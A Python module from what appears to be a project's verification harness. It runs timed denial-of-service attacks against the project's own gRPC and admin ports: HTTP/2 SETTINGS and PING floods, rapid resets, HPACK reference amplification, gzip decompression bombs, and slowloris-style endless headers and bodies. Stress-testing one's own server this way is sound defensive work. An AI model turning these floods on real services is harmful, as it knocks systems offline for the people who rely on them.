"""The attacks: what one hostile client sends to one port, for some seconds. Each runs in a process of its own.

Knows the wire alone, no node. An attacker that is cut off connects again; how often is the result.
"""

from __future__ import annotations

import argparse
import asyncio
import gzip
import sys
import time
from collections.abc import Awaitable, Callable, Sequence
from contextlib import suppress
from dataclasses import dataclass, field

from metasrv.grpc_api.http2 import frames as f
from metasrv.grpc_api.http2.headers import literal

CALLS = 8_000
READ_METHOD = "/meta.MetaService/KvReadV1"
STREAM_METHOD = "/meta.MetaService/KvGetMany"
EXPORT_METHOD = "/meta.MetaService/Export"


@dataclass(slots=True)
class Target:
    """One port, and until when to attack it."""

    host: str
    port: int
    until: float
    connections: int = 0
    """Made so far."""
    writers: list[asyncio.StreamWriter] = field(default_factory=list)

    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        self.connections += 1
        return await asyncio.open_connection(self.host, self.port)


Attack = Callable[[Target], Awaitable[None]]


def request(stream_id: int, path: str, *fields: tuple[str, str], ends: bool = False, extra: bytes = b"") -> bytes:
    """The headers of a call, whose body may follow."""
    head = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a")]
    head += [("content-type", "application/grpc"), ("te", "trailers"), *fields]
    block = b"".join(literal(name, value) for name, value in head) + extra
    flags = f.END_STREAM if ends else 0
    if len(block) <= f.PAYLOAD_SIZE_BYTES_MAX:
        return f.frame(f.HEADERS, flags | f.END_HEADERS, stream_id, block)
    size_bytes = f.PAYLOAD_SIZE_BYTES_MAX
    pieces = [block[start : start + size_bytes] for start in range(0, len(block), size_bytes)]
    frames = [f.frame(f.HEADERS, flags, stream_id, pieces[0])]
    for number, piece in enumerate(pieces[1:], 2):
        frames.append(f.frame(f.CONTINUATION, f.END_HEADERS if number == len(pieces) else 0, stream_id, piece))
    return b"".join(frames)


async def greet(target: Target, **settings: int) -> asyncio.StreamWriter:
    """Connect with HTTP/2; answers are read and forgotten."""
    reader, writer = await target.connect()
    window = settings.get("window")
    values = {} if window is None else {f.SETTING_INITIAL_WINDOW_SIZE: window}
    writer.write(f.PREFACE + f.settings(values))
    if settings.get("reads", 1):
        target.writers.append(writer)
        asyncio.get_running_loop().create_task(forget(reader))
    return writer


async def forget(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(65_536):
            continue


async def send(writer: asyncio.StreamWriter, data: bytes) -> None:
    writer.write(data)
    await writer.drain()
    await asyncio.sleep(0)


async def open_calls(writer: asyncio.StreamWriter, count: int, path: str = READ_METHOD, ends: bool = False) -> None:
    for start in range(0, count, 100):
        await send(writer, b"".join(request(2 * n + 1, path, ends=ends) for n in range(start, min(start + 100, count))))


# ----------------------------------------------------------------------------- what frames cost


async def settings_beside_calls(target: Target) -> None:
    """8,000 open calls, and SETTINGS that name the initial window 2,730 times."""
    writer = await greet(target)
    await open_calls(writer, CALLS)
    payload = b"".join(f.settings({f.SETTING_INITIAL_WINDOW_SIZE: 60_000 + n})[9:] for n in range(2_730))
    while target.goes_on():
        await send(writer, f.frame(f.SETTINGS, 0, 0, payload))


async def windows_of_waiting_answers(target: Target) -> None:
    """Calls whose answers wait for their own window, and WINDOW_UPDATEs for the connection's."""
    writer = await greet(target, window=0)
    await open_calls(writer, CALLS, EXPORT_METHOD, ends=True)
    while target.goes_on():
        await send(writer, f.window_update(0, 1) * 100)


async def header_references(target: Target) -> None:
    """Blocks of one-byte references to the compression table."""
    writer = await greet(target)
    indexed = b"\x40\x01a\x01b"  # one field with incremental indexing: the newest entry, 62
    number = 0
    while target.goes_on():
        extra = (indexed if not number else b"") + b"\xbe" * 900
        await send(writer, request(2 * number + 1, "/none", ends=True, extra=extra))
        number += 1


async def pings(target: Target) -> None:
    """As many PINGs as the connection takes."""
    writer = await greet(target)
    while target.goes_on():
        await send(writer, f.frame(f.PING, 0, 0, bytes(8)) * 1_000)


async def resets(target: Target) -> None:
    """Calls that are reset at once."""
    writer = await greet(target)
    number = 1
    while target.goes_on():
        piece = b""
        for _ in range(100):
            piece += request(number, READ_METHOD) + f.rst_stream(number, f.ErrorCode.CANCEL)
            number += 2
        await send(writer, piece)


# ----------------------------------------------------------------------------- what is kept


async def bombs(target: Target) -> None:
    """Compressed messages of 15 KB that become 15 MB each."""
    data = gzip.compress(bytes(15 * 1024 * 1024))
    message = b"\x01" + len(data).to_bytes(4, "big") + data
    writer = await greet(target)
    number = 1
    while target.goes_on():
        body = b"".join(
            f.frame(f.DATA, 0, number, message[start : start + 16_384]) for start in range(0, len(message), 16_384)
        )
        await send(
            writer, request(number, READ_METHOD, ("grpc-encoding", "gzip")) + body + f.frame(f.DATA, f.END_STREAM, number)
        )
        number += 2
        await asyncio.sleep(0.01)


async def bombs_that_nobody_takes(target: Target) -> None:
    """The same on streams of requests."""
    data = gzip.compress(bytes(15 * 1024 * 1024))
    message = b"\x01" + len(data).to_bytes(4, "big") + data
    frames = [f.frame(f.DATA, 0, 1, message[start : start + 16_384]) for start in range(0, len(message), 16_384)]
    writer = await greet(target, window=0)
    await send(writer, request(1, STREAM_METHOD, ("grpc-encoding", "gzip")))
    while target.goes_on():
        for frame in frames:
            await send(writer, frame)
        await asyncio.sleep(0.01)


async def metadata_of_waiting_calls(target: Target) -> None:
    """Calls without a body, each with 60 KB of metadata by reference."""
    writer = await greet(target)
    value = "v" * 3_900
    entry = b"\x40\x01a" + literal("", value)[2:]
    number = 0
    while target.goes_on():
        extra = (entry if not number else b"") + b"\xbe" * 15
        await send(writer, request(2 * number + 1, READ_METHOD, extra=extra))
        number += 1


async def refusals_that_nobody_reads(target: Target) -> None:
    """Requests for methods that do not exist; the answers stay in the node's buffers."""
    writers = [await greet(target, reads=0) for _ in range(50)]
    number = 1
    while target.goes_on():
        for writer in writers:
            writer.write(b"".join(request(number + 2 * n, "/none" + "n" * 60, ends=True) for n in range(50)))
        number += 100
        await asyncio.sleep(0.005)
        if any(writer.is_closing() for writer in writers):
            raise ConnectionResetError


# ----------------------------------------------------------------------------- the admin port


async def idle_connections(target: Target) -> None:
    """Connections to the admin port that say nothing."""
    while target.goes_on():
        with suppress(OSError):
            for _ in range(700):
                target.writers.append((await target.connect())[1])
        await asyncio.sleep(1)


async def endless_head(target: Target) -> None:
    """A request whose head never ends."""
    _, writer = await target.connect()
    writer.write(b"GET /livez HTTP/1.1\r\nhost: a\r\n")
    number = 0
    while target.goes_on():
        await send(writer, b"".join(b"x%d: %s\r\n" % (number + n, b"v" * 1000) for n in range(60)))
        number += 60


async def answers_that_nobody_reads(target: Target) -> None:
    """Pipelined requests for the metrics; nothing is read."""
    _, writer = await target.connect()
    while target.goes_on():
        writer.write(b"GET /v1/metrics HTTP/1.1\r\nhost: a\r\n\r\n" * 100)
        await asyncio.sleep(0.05)
        if writer.is_closing():
            raise ConnectionResetError


async def busy_connections(target: Target) -> None:
    """Many connections whose answers nobody reads."""
    while target.goes_on():
        with suppress(OSError):
            for _ in range(150):
                _, writer = await target.connect()
                target.writers.append(writer)
                writer.transport.pause_reading()  # type: ignore[attr-defined]
                writer.write(b"GET /v1/metrics HTTP/1.1\r\nhost: a\r\n\r\n" * 16)
        await asyncio.sleep(1)


async def callers_that_leave(target: Target) -> None:
    """Requests behind a profile, whose caller is gone before the first answer."""
    _, writer = await target.connect()
    writer.write(b"GET /debug/pprof/profile?seconds=300 HTTP/1.1\r\nhost: localhost\r\n\r\n")
    writer.write(b"GET /v1/metrics HTTP/1.1\r\nhost: a\r\n\r\n" * 15)
    await asyncio.sleep(0.02)
    writer.transport.abort()


async def head_behind_an_answer(target: Target) -> None:
    """A head that never ends, behind a request whose answer takes long."""
    _, writer = await target.connect()
    writer.write(b"GET /debug/pprof/profile?seconds=300 HTTP/1.1\r\nhost: localhost\r\n\r\n")
    await asyncio.sleep(0.02)
    writer.write(b"GET /livez HTTP/1.1\r\nhost: a\r\n")
    while target.goes_on():
        await send(writer, b"x: %s\r\n" % (b"v" * 60_000))


async def endless_body(target: Target) -> None:
    """A body without a length that never ends."""
    _, writer = await target.connect()
    writer.write(b"POST /v1/metrics HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n")
    while target.goes_on():
        await send(writer, b"ea60\r\n" + b"v" * 60_000 + b"\r\n")


async def garbage(target: Target) -> None:
    """What is not HTTP."""
    reader, writer = await target.connect()
    writer.write(b"\x16\x03\x01\x00\xff\r\n\r\n")
    await reader.read()
    writer.close()


GRPC_ATTACKS: dict[str, Attack] = {
    "settings beside calls": settings_beside_calls,
    "windows of waiting answers": windows_of_waiting_answers,
    "header references": header_references,
    "pings": pings,
    "resets": resets,
    "bombs": bombs,
    "bombs that nobody takes": bombs_that_nobody_takes,
    "metadata of waiting calls": metadata_of_waiting_calls,
    "refusals that nobody reads": refusals_that_nobody_reads,
}
ADMIN_ATTACKS: dict[str, Attack] = {
    "idle connections": idle_connections,
    "endless head": endless_head,
    "answers that nobody reads": answers_that_nobody_reads,
    "busy connections": busy_connections,
    "callers that leave": callers_that_leave,
    "head behind an answer": head_behind_an_answer,
    "endless body": endless_body,
    "garbage": garbage,
}


async def attack(name: str, host: str, port: int, seconds: float) -> int:
    """Attack until the time is over; returns how many connections it took."""
    target = Target(host, port, time.monotonic() + seconds)
    chosen = {**GRPC_ATTACKS, **ADMIN_ATTACKS}[name]
    while target.goes_on():
        with suppress(OSError, EOFError, TimeoutError):
            async with asyncio.timeout(max(0.0, target.until - time.monotonic())):
                await chosen(target)
        for writer in target.writers:
            writer.close()
        target.writers.clear()
    return target.connections


def main(arguments: Sequence[str] | None = None) -> int:
    """Run one attack; prints how many connections it made."""
    parser = argparse.ArgumentParser(prog="python -m verification.attack.attackers")
    parser.add_argument("name", choices=[*GRPC_ATTACKS, *ADMIN_ATTACKS])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    options = parser.parse_args(arguments)
    print(asyncio.run(attack(options.name, options.host, options.port, options.seconds)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
